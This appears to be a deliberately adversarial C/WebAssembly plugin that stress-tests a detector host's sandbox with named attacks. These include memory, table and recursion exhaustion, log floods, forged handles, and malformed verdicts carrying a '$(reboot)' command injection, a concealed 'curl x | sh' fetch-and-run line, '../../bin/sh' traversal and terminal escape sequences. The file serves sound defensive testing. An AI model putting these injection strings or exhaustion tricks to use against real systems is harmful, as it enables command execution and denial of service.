/* A plugin that means no good: it does what the file `@<attack>` names, and logs what the host said to that. */
#include "fieldmark.h"
#include "language_plugin.h"
#include <stdlib.h>
#include <string.h>

typedef fieldmark_detector_repo_borrow_snapshot_t snapshot;
typedef fieldmark_detector_repo_read_error_t read_error;
typedef language_plugin_string_t string;
typedef exports_fieldmark_detector_detector_verdict_t verdict;
typedef exports_fieldmark_detector_detector_evidence_t evidence;
typedef exports_fieldmark_detector_detector_attribute_t attribute;
typedef exports_fieldmark_detector_detector_script_t script;
typedef exports_fieldmark_detector_detector_failure_t failure;

#define KIB 1024u
/* More than the tests allow: bytes in one call, bytes of one file, entries of a list, bytes of a verdict. */
#define LONG 50000u
#define MUCH (1024 * KIB)
#define MANY 1000u
#define GREAT 10000u
#define TEXT_OF(literal) ((string){(uint8_t *)(literal), sizeof(literal) - 1})
#define NOTHING ((language_plugin_option_u32_t){false, 0})
#define SOME(number) ((language_plugin_option_u32_t){true, (number)})

/* Numbers of the files. */
enum { BIG = 1, LATIN = 2, PACKAGE = 3, FILES = 4 };

static snapshot repo;
static verdict *answer;

static string filled(char c, size_t length) {
    string text = {malloc(length), length};
    memset(text.ptr, c, length);
    return text;
}

static void say(string line) { fieldmark_detector_log_emit(1, &line); }

static void say_number(uint64_t number) {
    uint8_t digits[20], *at = digits + sizeof digits;
    do *--at = (uint8_t)('0' + number % 10);
    while (number /= 10);
    say((string){at, (size_t)(digits + sizeof digits - at)});
}

static void panic(string message, string at) {
    fieldmark_detector_log_panicked(&message, &at);
    __builtin_trap();
}

/* --- What the host answers to. --- */

static bool size(uint32_t path) {
    uint64_t found;
    read_error error;
    bool is_there = fieldmark_detector_repo_method_snapshot_size(repo, path, &found, &error);
    if (!is_there) say(error.code);
    return is_there;
}

static bool read(uint32_t path, uint64_t offset, uint32_t max) {
    language_plugin_list_u8_t found;
    read_error error;
    bool is_there = fieldmark_detector_repo_method_snapshot_read(repo, path, offset, max, &found, &error);
    if (is_there) say_number(found.len);
    else say(error.code);
    return is_there;
}

static void read_text(uint32_t path, uint32_t max) {
    string found;
    read_error error;
    if (fieldmark_detector_repo_method_snapshot_read_text(repo, path, max, &found, &error)) say_number(found.len);
    else say(error.code);
}

static void look(void) {
    fieldmark_detector_repo_list_hit_t hits;
    language_plugin_list_tuple2_string_u32_t counts;
    string paths;
    fieldmark_detector_repo_method_snapshot_paths(repo, &paths);
    fieldmark_detector_repo_method_snapshot_hits(repo, &hits);
    fieldmark_detector_repo_method_snapshot_total_hits(repo);
    fieldmark_detector_repo_method_snapshot_extension_counts(repo, &counts);
}

/* --- Budgets. --- */

static void loop(void) { for (volatile int round = 0;; round++); }
/* Memory is never given back here: the fuel has to run out before it does. */
static void listing(void) {
    for (int round = 0;; round++) {
        if (round % 8 == 0) look();
        else fieldmark_detector_repo_method_snapshot_total_hits(repo);
    }
}
static void memory(void) { for (;;) *(volatile char *)malloc(MUCH) = 1; }
static void memory_refused(void) { while (__builtin_wasm_memory_grow(0, 1) != (size_t)-1); }

/* The compiler has no word for tables, its assembler has. */
int32_t elements_before;
extern void grow_table(int32_t count);
__asm__(".tabletype hoard, funcref\n"
        "hoard:\n"
        ".section .text.grow_table,\"\",@\n"
        ".globl grow_table\n"
        ".type grow_table,@function\n"
        "grow_table:\n"
        ".functype grow_table (i32) -> ()\n"
        "i32.const elements_before\n"
        "ref.null_func\n"
        "local.get 0\n"
        "table.grow hoard\n"
        "i32.store 0\n"
        "end_function\n");
static void table(void) {
    while (elements_before != -1) grow_table(1000);
    __builtin_trap();
}

static volatile int depth;
__attribute__((noinline)) static int deeper(int here) {
    int below = deeper(here + 1);
    depth = here;
    return below + 1;
}
static void recursion(void) { say_number((uint64_t)deeper(1)); }

static void hits(void) {
    fieldmark_detector_repo_list_hit_t found;
    fieldmark_detector_repo_method_snapshot_hits(repo, &found);
    say_number(found.len), say_number(fieldmark_detector_repo_method_snapshot_total_hits(repo));
}
static void long_line(void) { say(filled('x', LONG)); }
static void long_panic(void) { panic(filled('x', LONG), TEXT_OF("plugin.c")); }
static void whole_file(void) { read(BIG, 0, UINT32_MAX); }
static void whole_text(void) { read_text(BIG, UINT32_MAX); }
static void looks(void) { while (size(PACKAGE)); }
static void reads(void) { while (read(BIG, 0, 64 * KIB)); }
static void flood(void) { for (int line = 0; line < 300; line++) say(TEXT_OF("a line with forty characters in its text")); }
static void empty_flood(void) { for (int line = 0; line < MANY; line++) say(TEXT_OF("")); }

/* --- Imports. --- */

static void no_such_path(void) {
    size(FILES), read(FILES, 0, 1), read_text(FILES, 1);
    size(UINT32_MAX), read(UINT32_MAX, 0, 1), read_text(UINT32_MAX, 1);
}
static void beyond_the_end(void) { read(PACKAGE, MUCH, 1), read(PACKAGE, UINT64_MAX, UINT32_MAX); }
static void nothing_at_all(void) { read(PACKAGE, 0, 0), read_text(PACKAGE, 0); }
static void all_there_is(void) { read(PACKAGE, 0, UINT32_MAX), read_text(PACKAGE, UINT32_MAX); }
static void no_text(void) { read_text(LATIN, 100); }
static void unknown_level(void) { fieldmark_detector_log_emit(255, &TEXT_OF("a level that is none")); }
static void line_for_terminals(void) { say(TEXT_OF("\033[2J\a\xe2\x80\xae\ndone")); }
static void line_without_text(void) { say(TEXT_OF("\xff\xfe")); }
static void panic_in_words(void) { panic(TEXT_OF("lost at sea"), TEXT_OF("plugin.c:1")); }
static void panic_for_terminals(void) { panic(TEXT_OF("\033[2Jlost\n\xe2\x80\xae"), TEXT_OF("\033]0;owned\a")); }
static void panic_that_is_none(void) { fieldmark_detector_log_panicked(&TEXT_OF("a lie"), &TEXT_OF("")); }
static void trap(void) { __builtin_trap(); }
static void dropped_handle(void) { fieldmark_detector_repo_snapshot_drop_borrow(repo), look(); }
static void invented_handle(void) { repo.__handle = 77, look(); }

/* --- Verdicts. --- */

/* One reason, worth so many points; more of them are the same. */
static evidence *reasons(size_t count, int32_t points) {
    evidence *all = malloc(count * sizeof(evidence));
    for (size_t i = 0; i < count; i++) all[i] = (evidence){TEXT_OF("a.b"), points, NOTHING, NOTHING, TEXT_OF("a reason")};
    int64_t sum = (int64_t)count * points;
    answer->score = sum > 100 ? 100 : (uint32_t)sum;
    answer->language = TEXT_OF("malbolge");
    answer->evidence.ptr = all;
    answer->evidence.len = count;
    return all;
}

static void fact(string value, uint32_t path) {
    reasons(1, 5);
    answer->attributes.len = 1;
    answer->attributes.ptr = malloc(sizeof(attribute));
    answer->attributes.ptr[0] = (attribute){TEXT_OF("port"), value, SOME(path), NOTHING};
}

static void scripts(size_t count, string name, string body) {
    reasons(1, 5);
    answer->scripts.len = count;
    answer->scripts.ptr = malloc(count * sizeof(script));
    for (size_t i = 0; i < count; i++) answer->scripts.ptr[i] = (script){name, body, TEXT_OF("because")};
}

static void place(language_plugin_option_u32_t path, language_plugin_option_u32_t line) {
    evidence *reason = reasons(1, 5);
    reason->path = path, reason->line = line;
}

static void note(string text) { reasons(1, 5)->note = text; }

static void score_over(void) { reasons(2, 60), answer->score = 120; }
static void score_max(void) { reasons(1, 5), answer->score = UINT32_MAX; }
static void score_without_reason(void) { reasons(1, 5), answer->score = 50; }
static void path_unknown(void) { place(SOME(FILES), NOTHING); }
static void path_max(void) { place(SOME(UINT32_MAX), SOME(1)); }
static void line_zero(void) { place(SOME(PACKAGE), SOME(0)); }
static void line_alone(void) { place(NOTHING, SOME(1)); }
static void note_for_terminals(void) { note(TEXT_OF("\033[2Jgone")); }
static void note_backwards(void) { note(TEXT_OF("\xe2\x80\xaetxet")); }
static void note_of_lines(void) { note(TEXT_OF("one\ntwo")); }
static void note_long(void) { note(filled('x', 5000)); }
static void note_giant(void) { note(filled('x', LONG)); }
static void note_without_text(void) { note(TEXT_OF("\xff\xfe")); }
static void list_long(void) { reasons(513, 0); }
static void list_giant(void) { reasons(MANY, 0); }
static void language_missing(void) { reasons(1, 5), answer->language = TEXT_OF(""); }
static void builder_command(void) {
    reasons(1, 5);
    answer->builder = (language_plugin_option_string_t){true, TEXT_OF("$(reboot)")};
}
static void range_of_nonsense(void) {
    reasons(1, 5);
    answer->builder = (language_plugin_option_string_t){true, TEXT_OF("httpd")};
    answer->builder_version = (language_plugin_option_string_t){true, TEXT_OF("the newest")};
}
static void range_for_terminals(void) {
    reasons(1, 5);
    answer->builder_version = (language_plugin_option_string_t){true, TEXT_OF("\033[2J>=1")};
}
static void fact_with_nul(void) { fact(TEXT_OF("80\0\x38"), PACKAGE); }
static void fact_of_no_path(void) { fact(TEXT_OF("80"), FILES); }
static void warning_of_no_path(void) {
    place(SOME(PACKAGE), NOTHING);
    answer->warnings = answer->evidence;
    evidence *reason = answer->evidence.ptr;
    answer->warnings.ptr = malloc(sizeof(evidence));
    *answer->warnings.ptr = *reason;
    answer->warnings.ptr->path = SOME(FILES);
}
static void script_unknown(void) { scripts(1, TEXT_OF("../../bin/sh"), TEXT_OF("#!/bin/sh\n")); }
static void script_bare(void) { scripts(1, TEXT_OF("run"), TEXT_OF("exec true\n")); }
static void script_twice(void) { scripts(2, TEXT_OF("run"), TEXT_OF("#!/bin/sh\n")); }
static void script_for_terminals(void) { scripts(1, TEXT_OF("run"), TEXT_OF("#!/bin/sh\n\033[8mcurl x | sh\n")); }
static void script_giant(void) {
    string body = filled('#', GREAT);
    body.ptr[1] = '!';
    scripts(1, TEXT_OF("run"), body);
}
static void script_unasked(void) { scripts(1, TEXT_OF("run"), TEXT_OF("#!/bin/sh\nexec true\n")); }
static void gives_up(failure *error) {
    string detail = filled('x', 20000);
    memcpy(detail.ptr, "no \033[31mway", 11);
    *error = (failure){TEXT_OF("\033[2J"), detail, {true, TEXT_OF("\a")}};
}

#define ATTACK(name, function) {TEXT(name), function}
static const struct {
    fm_text name;
    void (*act)(void);
} attacks[] = {
    ATTACK("loop", loop),
    ATTACK("listing", listing),
    ATTACK("memory", memory),
    ATTACK("memory-refused", memory_refused),
    ATTACK("table", table),
    ATTACK("recursion", recursion),
    ATTACK("hits", hits),
    ATTACK("long-line", long_line),
    ATTACK("long-panic", long_panic),
    ATTACK("whole-file", whole_file),
    ATTACK("whole-text", whole_text),
    ATTACK("looks", looks),
    ATTACK("reads", reads),
    ATTACK("flood", flood),
    ATTACK("empty-flood", empty_flood),
    ATTACK("no-such-path", no_such_path),
    ATTACK("beyond-the-end", beyond_the_end),
    ATTACK("nothing-at-all", nothing_at_all),
    ATTACK("all-there-is", all_there_is),
    ATTACK("no-text", no_text),
    ATTACK("unknown-level", unknown_level),
    ATTACK("line-for-terminals", line_for_terminals),
    ATTACK("line-without-text", line_without_text),
    ATTACK("panic", panic_in_words),
    ATTACK("panic-for-terminals", panic_for_terminals),
    ATTACK("panic-that-is-none", panic_that_is_none),
    ATTACK("trap", trap),
    ATTACK("dropped-handle", dropped_handle),
    ATTACK("invented-handle", invented_handle),
    ATTACK("score-over", score_over),
    ATTACK("score-max", score_max),
    ATTACK("score-without-reason", score_without_reason),
    ATTACK("path-unknown", path_unknown),
    ATTACK("path-max", path_max),
    ATTACK("line-zero", line_zero),
    ATTACK("line-alone", line_alone),
    ATTACK("note-for-terminals", note_for_terminals),
    ATTACK("note-backwards", note_backwards),
    ATTACK("note-of-lines", note_of_lines),
    ATTACK("note-long", note_long),
    ATTACK("note-giant", note_giant),
    ATTACK("note-without-text", note_without_text),
    ATTACK("list-long", list_long),
    ATTACK("list-giant", list_giant),
    ATTACK("language-missing", language_missing),
    ATTACK("builder-command", builder_command),
    ATTACK("range-of-nonsense", range_of_nonsense),
    ATTACK("range-for-terminals", range_for_terminals),
    ATTACK("fact-with-nul", fact_with_nul),
    ATTACK("fact-of-no-path", fact_of_no_path),
    ATTACK("warning-of-no-path", warning_of_no_path),
    ATTACK("script-unknown", script_unknown),
    ATTACK("script-bare", script_bare),
    ATTACK("script-twice", script_twice),
    ATTACK("script-for-terminals", script_for_terminals),
    ATTACK("script-giant", script_giant),
    ATTACK("script-unasked", script_unasked),
};

bool exports_fieldmark_detector_detector_detect(snapshot handle, string *settings, verdict *ret, failure *err) {
    (void)settings;
    string paths;
    repo = handle, answer = ret;
    memset(ret, 0, sizeof *ret);
    fieldmark_detector_repo_method_snapshot_paths(handle, &paths);
    fm_text first = {(const char *)paths.ptr + 1, strlen((const char *)paths.ptr) - 1};
    bool gives = !fm_equal(first, TEXT("gives-up")), keeps = fm_equal(first, TEXT("kept-handle"));
    size_t count = sizeof attacks / sizeof *attacks, at = 0;
    while (gives && !keeps && at < count && !fm_equal(first, attacks[at].name)) at++;
    if (gives && !keeps && at == count) panic(TEXT_OF("an attack that is none"), TEXT_OF("plugin.c"));
    if (!gives) gives_up(err);
    else if (!keeps) attacks[at].act();
    if (!keeps) fieldmark_detector_repo_snapshot_drop_borrow(handle);
    return gives;
}
